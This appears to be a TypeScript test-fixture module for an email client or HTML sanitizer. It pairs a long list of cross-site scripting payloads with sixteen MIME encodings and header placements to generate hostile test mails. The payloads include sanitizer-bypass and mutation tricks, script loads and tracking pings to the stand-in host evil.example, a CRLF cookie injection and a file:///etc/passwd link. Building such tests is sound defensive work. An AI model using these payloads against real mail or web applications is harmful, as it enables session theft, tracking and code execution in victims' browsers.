import { from, head, type NamedMail, pairs } from './named-mail.ts'

/** Ways to have a page run something: by element, by event, by address, by style, and by confusing who cleans it. */
const payloads = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x></sCrIpT>',
  '<script/x>alert(1)</script\n>',
  '<<script>script>alert(1)</</script>script>',
  '<scr\0ipt>alert(1)</scr\0ipt>',
  '<script>alert(1)',
  '<img src=x onerror=alert(1)>',
  '<img src=x oNeRrOr = "alert(1)">',
  '<img/src=x/onerror=alert(1)>',
  '<img src="x" onerror\n=\nalert(1) x>',
  '<img src=`x` onerror=`alert(1)`>',
  '<img """><script>alert(1)</script>">',
  '<img src="cid:x" data-remote="javascript:alert(1)" data-quote onload=alert(1)>',
  '<img srcset="x, javascript:alert(1) 2x" src=javascript:alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert&#40;1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=9>x</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /><a id=x>x</a></svg>',
  '<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<textarea></textarea><img src=x onerror=alert(1)></textarea>',
  '<xmp></xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<select><template><img src=x onerror=alert(1)></template></select>',
  '<option><style></option></select><img src=x onerror=alert(1)></style>',
  '<table><td background="javascript:alert(1)"><tr><a href="javascript:alert(1)">x</a></table>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
  '<?php echo 1 ?><img src=x onerror=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="java&#115;cript:alert(1)"></iframe>',
  '<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>',
  '<object data="data:text/html,<script>1</script>"></object>',
  '<embed src="data:image/svg+xml;base64,PHN2Zy9vbmxvYWQ9YWxlcnQoMSk+">',
  '<applet code=x></applet><portal src=javascript:alert(1)></portal>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a><a href="livescript:x">x</a><a href="mocha:x">x</a>',
  '<a href="//evil.example/%0d%0aSet-Cookie:x">x</a><a href="\\\\evil.example\\share">x</a>',
  '<a href="https://good.example@evil.example/">x</a><a href="file:///etc/passwd">x</a>',
  '<a href=x onclick=alert(1) style="position:fixed;inset:0">x</a>',
  '<a target=_top ping="https://evil.example/" href=https://evil.example/>x</a>',
  '<base href="javascript:/a/-alert(1)//"><a href=x>x</a>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href="https://evil.example/x.css"><link rel=import href=x>',
  '<style>@import "//evil"; * { background: url(javascript:alert(1)) }</style>',
  '<p style="background:url(javascript:alert(1));behavior:url(x);-moz-binding:url(x)">x</p>',
  '<p style="width: expression(alert(1))">x</p>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">x</div>',
  '<form action=javascript:alert(1)><button formaction=javascript:alert(1)>x</button></form>',
  '<input autofocus onfocus=alert(1)><keygen autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee><body onload=alert(1)>',
  '<div id=__proto__ name=constructor><a id=document><a id=document name=cookie>x</a></div>',
  '<img src=https://evil.example/pixel.gif width=1 height=1><bgsound src=x>',
  '<b><p></b><i></p></i><table><b></table></b><svg></p></svg>',
  '&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=x onerror=alert(1)&#62;',
  '\u202e<img src=x onerror=alert(1)>\u2066<script>\u2069',
  `${'<p>'.repeat(80)}<img src=x onerror=alert(1)>`,
]

const inHtml = (type: string, body: (payload: string) => string) => (payload: string) =>
  `${head(`MIME-Version: 1.0\r\n${type}\r\n`)}\r\n${body(payload)}\r\n`
const base64 = (text: string) => Buffer.from(text).toString('base64').replace(/.{76}/g, '$&\r\n')
const quotedPrintable = (text: string) =>
  [...Buffer.from(text)]
    .map(
      (byte, index) =>
        `=${byte.toString(16).padStart(2, '0').toUpperCase()}${index % 20 === 19 ? '=\r\n' : ''}`,
    )
    .join('')
const encodedWord = (text: string) => `=?utf-8?B?${Buffer.from(text).toString('base64')}?=`
const parts = (kind: string, ...contents: string[]) =>
  `${head(`Content-Type: multipart/${kind}; boundary=b\r\n`)}\r\n${contents.map((part) => `--b\r\n${part}\r\n`).join('')}--b--\r\n`
const htmlPart = (payload: string) => `Content-Type: text/html; charset=utf-8\r\n\r\n${payload}`

/** By which ways it comes. */
const carriers: [name: string, write: (payload: string) => string][] = [
  ['as HTML', inHtml('Content-Type: text/html; charset=utf-8', (payload) => payload)],
  [
    'in base64',
    inHtml('Content-Type: text/html\r\nContent-Transfer-Encoding: base64', (payload) => base64(payload)),
  ],
  [
    'quoted-printable',
    inHtml('Content-Type: text/html\r\nContent-Transfer-Encoding: quoted-printable', quotedPrintable),
  ],
  ['as plain text', inHtml('Content-Type: text/plain', (payload) => payload)],
  ['as a type of its own', inHtml('Content-Type: text/x-evil', (payload) => payload)],
  ['as XHTML', inHtml('Content-Type: application/xhtml+xml', (payload) => payload)],
  [
    'beside plain text',
    (payload) => parts('alternative', 'Content-Type: text/plain\r\n\r\nx', htmlPart(payload)),
  ],
  [
    'related',
    (payload) => parts('related', htmlPart(payload), 'Content-Type: image/png\r\nContent-ID: <x>\r\n\r\nx'),
  ],
  ['twice', (payload) => parts('mixed', htmlPart(payload), htmlPart(payload))],
  [
    'attached',
    (payload) =>
      parts(
        'mixed',
        'Content-Type: text/plain\r\n\r\nx',
        `Content-Disposition: attachment; filename=x.html\r\n${htmlPart(payload)}`,
      ),
  ],
  [
    'in a mail within',
    (payload) => parts('mixed', `Content-Type: message/rfc822\r\n\r\n${head()}${htmlPart(payload)}`),
  ],
  [
    'quoted',
    inHtml('Content-Type: text/html', (payload) => `<p>Thanks</p><div class="gmail_quote">${payload}</div>`),
  ],
  [
    'in an unclosed attribute',
    inHtml('Content-Type: text/html', (payload) => `<p title="${payload}<p class='x`),
  ],
  ['in the subject', (payload) => `${from}Subject: ${encodedWord(payload)}\r\n\r\nx\r\n`],
  [
    'in the name',
    (payload) => `From: "${encodedWord(payload)}" <eve@evil.example>\r\nSubject: x\r\n\r\nx\r\n`,
  ],
  [
    'in a file’s name',
    (payload) =>
      parts(
        'mixed',
        `Content-Type: image/png; name="${encodedWord(payload)}"\r\nContent-Disposition: attachment\r\n\r\nx`,
      ),
  ],
]

/** Every payload by every way. */
export const scriptMails = (): NamedMail[] =>
  pairs(payloads, carriers, (payload, [way, write]) => ({
    name: `${payload.slice(0, 40)} ${way}`,
    mail: Buffer.from(write(payload)),
  }))
